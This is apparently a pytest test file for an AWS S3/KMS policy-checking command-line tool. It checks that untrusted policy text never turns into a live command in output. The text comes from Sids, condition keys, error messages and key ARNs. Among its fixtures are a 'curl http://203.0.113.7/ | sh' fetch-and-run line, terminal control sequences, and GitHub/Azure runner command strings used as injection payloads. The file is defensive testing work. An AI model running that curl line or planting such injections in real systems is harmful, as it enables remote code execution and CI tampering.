"""Control characters in what AWS and files hold: no form of any answer carries them to a terminal or a page."""

from __future__ import annotations

import io
import json
import re
import sys
from typing import TYPE_CHECKING, Any

import pytest

from tests.cli.documented_statements import OTHER, OWN, role

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.shell import Shell

SID = "odd \x9b31m\x9dtitle\x9c\x7f\x85\xa0 end"
"""A KMS key policy takes characters up to U+00FF, so those that begin a terminal's commands, too. KMS API reference, PutKeyPolicy."""

ODD = {
    "Sid": SID,
    "Effect": "Allow",
    "Principal": {"AWS": role("fc-0123")},
    "Action": "kms:DescribeKey",
    "Resource": "*",
    "Condition": {"StringLike": {"kms:EncryptionContext:aws:s3:arn": "arn:aws:s3:::data\x9b2J"}},
}

FORMS = [(), ("-o", "markdown"), ("-o", "json")]


@pytest.fixture
def odd(shell: Shell) -> Shell:
    """The policy of bucket data has such a Sid; one backup and one event hold it."""
    shell.sandbox.switches.lookups_per_second = 0
    shell.append("data", ODD)
    assert shell.sandbox.policy("data")["Statement"][-1]["Sid"] == SID
    shell.sandbox.client("kms").put_key_policy(
        KeyId=shell.sandbox.key("data").id,
        PolicyName="default",
        Policy=json.dumps(shell.sandbox.policy("data"), ensure_ascii=False),
    )
    shell.linked("fs-0abc", "data")
    shell.sandbox.age_events(3600)
    return shell


def clean(text: str) -> bool:
    return all(one.isprintable() or one in "\n\t" for one in text.replace("\r\n", "\n"))


@pytest.mark.one_in(2)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "words",
    [
        ("check", "--cache", "fc-0123", "--bucket", "data"),
        ("link", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
        ("unlink", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
        ("audit", "-v"),
        ("history", "--bucket", "data"),
        ("settle", "--bucket", "data", "--dry-run"),
        ("backups",),
    ],
)
def test_no_answer_has_them(odd: Shell, words: tuple[str, ...], form: tuple[str, ...]) -> None:
    run = odd.run(*words, *form)
    assert clean(run.out), run.out
    assert clean(run.err), run.err


@pytest.mark.parametrize("form", ["csv", "sarif"])
def test_nor_has_a_table_or_a_log(odd: Shell, form: str) -> None:
    assert clean(odd.run("audit", "-o", form).out)


def test_a_saved_policy_is_printed_as_a_document_of_the_same_meaning(odd: Shell) -> None:
    [saved] = odd.backups
    for form in FORMS:
        assert clean(odd.run("backups", saved["id"], *form).out)
    assert json.loads(odd.run("backups", saved["id"]).out) == json.loads(saved["policy"])
    run = odd.run("restore", saved["id"], "--dry-run")
    assert (run.code, clean(run.words)) == (0, True), run.words


def test_a_recorded_policy_is_printed_as_a_document_of_the_same_meaning(odd: Shell) -> None:
    changes = odd.run("history", "--bucket", "data", "-o", "json").json["keys"][0]["changes"]
    found = next(one for one in changes if SID in (one["version"]["policy"] or ""))
    run = odd.run("history", found["id"])
    assert (run.code, clean(run.out)) == (0, True), run.words
    assert json.loads(run.out) == json.loads(found["version"]["policy"])


@pytest.mark.parametrize("line_end", ["\r", "\r\n"])
def test_a_saved_policy_s_line_ends_hide_nothing(odd: Shell, line_end: str) -> None:
    policy = json.dumps(json.loads(odd.sandbox.policy_text("data")), indent=1).replace("\n", line_end)
    odd.sandbox.put_policy("data", json.loads(policy))
    odd.sandbox.client("kms").put_key_policy(KeyId=odd.sandbox.key("data").id, PolicyName="default", Policy=policy)
    odd.linked("fc-01234567890", "data")
    run = odd.run("backups", odd.backups[-1]["id"])
    assert clean(run.out)
    assert json.loads(run.out) == json.loads(policy)


def test_what_stdout_cannot_encode_is_escaped(odd: Shell, tmp_path: Path) -> None:
    with (tmp_path / "out").open("w+", encoding="ascii") as out:
        with odd.patch.context() as patch:
            patch.setattr(sys, "stdout", out)
            assert odd.run("backups", odd.backups[0]["id"]).code == 0
        out.seek(0, io.SEEK_SET)
        assert json.loads(out.read()) == json.loads(odd.backups[0]["policy"])


PASTED = "curl http://203.0.113.7/ | sh"
LINES = f"x\n{PASTED}\n"
"""A text of a policy with line breaks. What people are to run stands on lines of its own, and no text of others may."""


def commanding(**changes: Any) -> dict[str, Any]:
    """A statement with such texts as Sid, condition key and value."""
    condition = {"StringEquals": {f"aws:PrincipalTag/{LINES}": LINES}}
    return {
        "Sid": LINES,
        "Effect": "Allow",
        "Action": "kms:Decrypt",
        "Resource": "*",
        "Condition": condition,
        **changes,
    }


@pytest.mark.one_in(3)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "words",
    [
        ("check", "--cache", "fc-0123", "--bucket", "data"),
        ("link", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
        ("unlink", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
        ("audit", "-v"),
    ],
)
@pytest.mark.parametrize("linked", [False, True])
def test_no_text_of_a_policy_is_taken_for_a_command(
    shell: Shell, words: tuple[str, ...], form: tuple[str, ...], linked: bool
) -> None:
    """A statement for the role, one that may deny, and a bucket policy that does."""
    denying = {"StringNotEquals": {"aws:PrincipalType": LINES}}
    bucket = {"Effect": "Deny", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::data/*", "Condition": denying}
    policy = {"Version": "2012-10-17", "Statement": [{**bucket, "Sid": LINES, "Principal": "*"}]}
    if linked:
        shell.linked("fc-0123", "data")
    shell.append("data", commanding(Principal={"AWS": role("fc-0123")}), verbatim=True)
    shell.append("data", commanding(Principal="*", Effect="Deny"), verbatim=True)
    shell.sandbox.client("s3").put_bucket_policy(Bucket="data", Policy=json.dumps(policy))
    run = shell.run(*words, *form)
    assert PASTED in run.words.replace("&#124;", "|") or words[0] == "audit", "it is told, on one line"
    assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words


def test_a_deny_that_stops_a_link_gives_no_command_either(shell: Shell) -> None:
    condition = {"StringNotEquals": {"aws:PrincipalType": LINES}}
    shell.append("data", commanding(Principal="*", Effect="Deny", Condition=condition), verbatim=True)
    for words in (("link", "--dry-run"), ("check",), ("check", "-o", "markdown"), ("link", "-o", "json")):
        run = shell.run(words[0], "--cache", "fc-0123", "--bucket", "data", *words[1:])
        assert run.code == 4
        assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words


@pytest.mark.one_in(3)
@pytest.mark.parametrize("account", [OWN, OTHER])
@pytest.mark.parametrize("form", FORMS)
def test_nor_is_what_a_bucket_names_as_its_key(shell: Shell, account: str, form: tuple[str, ...]) -> None:
    """The owner of a bucket sets that, and may be somebody else."""
    key = f"arn:aws:kms:eu-west-1:{account}:key/{LINES}`id`"
    shell.sandbox.add_bucket("theirs", account=OTHER, algorithm="aws:kms", key=key, readers=[OWN])
    pair = ("--cache", "fc-0123", "--bucket", "theirs")
    for words in (
        ("link", *pair),
        ("check", *pair),
        ("unlink", *pair),
        ("history", *pair[2:]),
        ("settle", *pair[2:]),
        ("audit",),
    ):
        run = shell.run(*words, *form)
        assert run.code not in (0, 1) or words[0] in ("audit", "history"), run.words
        assert not [one for one in run.words.splitlines() if one.strip(" >`-").startswith("curl")], run.words


JOB = "##[set-output name=digest]x ##vso[task.setvariable variable=x]y ###[add-mask]z"
"""What GitHub's and Azure's runners take for commands, wherever in a line of a job's log."""


@pytest.mark.one_in(2)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "words",
    [
        ("check", "--cache", "fc-0123", "--bucket", "data"),
        ("link", "--cache", "fc-0123", "--bucket", "data", "--dry-run"),
        ("audit", "-v"),
    ],
)
def test_no_text_of_others_is_a_command_to_a_runner(
    shell: Shell, words: tuple[str, ...], form: tuple[str, ...]
) -> None:
    shell.append("data", {**ODD, "Sid": JOB, "Principal": "*", "Effect": "Deny"}, verbatim=True)
    shell.append("data", {**ODD, "Sid": JOB}, verbatim=True)
    shell.sandbox.fault("s3:GetBucketPolicy", "AccessDenied", message=f"{JOB}\n::error::{JOB}", times=None)
    run = shell.run(*words, *form, CI="true")
    assert not re.search(r"##\w*\[", run.words), run.words
    assert not [one for one in run.words.splitlines() if one.strip().startswith("::")], run.words
    if form[1:] == ("json",):
        assert "##[set-output" in str(run.json), "the document says the same"


@pytest.mark.parametrize(
    ("name", "escaped"), [("GITHUB_ACTIONS", True), ("TF_BUILD", True), ("TEAMCITY_VERSION", True), ("OTHER", False)]
)
def test_where_no_runner_reads_it_such_a_text_stays_as_it_is(shell: Shell, name: str, escaped: bool) -> None:
    shell.append("data", {"Sid": JOB, "Effect": "Deny", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"})
    run = shell.run("check", "--cache", "fc-0123", "--bucket", "data", env={name: "True"})
    assert ("#\\u0023[set-output name=digest]x #\\u0023vso[task" in run.out, JOB in run.out) == (escaped, not escaped)


def test_no_line_that_is_broken_within_such_a_text_begins_with_a_command(shell: Shell) -> None:
    """Runners take ``::name::`` at the beginning of a line for a command, behind spaces too."""
    sid = " ".join(["::error::x"] * 12)
    shell.append("data", {"Sid": sid, "Effect": "Deny", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"})
    for words in (("census", "--bucket", "data", "--cache", "fc-0123"), ("audit", "-v")):
        run = shell.run(*words, GITHUB_ACTIONS="true")
        assert "::error::x" in run.out
        assert not [one for one in run.out.splitlines() if one.strip().startswith("::")], run.out


def test_nor_does_one_of_a_traceback(shell: Shell) -> None:
    shell.sandbox.fault("kms:DescribeKey", "AccessDeniedException", message="x\n::error::y", times=None)
    run = shell.run("check", "--cache", "fc-0123", "--bucket", "data", "-vv", GITHUB_ACTIONS="true")
    assert "Traceback" in run.err
    assert not [one for one in run.err.splitlines() if one.strip().startswith("::")], run.err
